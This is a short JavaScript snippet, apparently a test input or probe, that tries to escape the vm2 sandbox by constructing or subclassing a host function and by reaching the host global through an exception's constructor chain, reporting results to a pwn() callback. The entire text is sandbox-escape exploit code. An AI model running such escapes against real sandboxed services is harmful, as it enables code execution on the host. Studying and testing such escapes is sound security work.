// vm2: new on a host function yields a host object
try { pwn(new log()) } catch (e) { pwn(e.constructor.constructor('return this')()) } try { pwn(Reflect.construct(log, [])) } catch (e) {} try { class X extends log {} pwn(new X()) } catch (e) {} 1
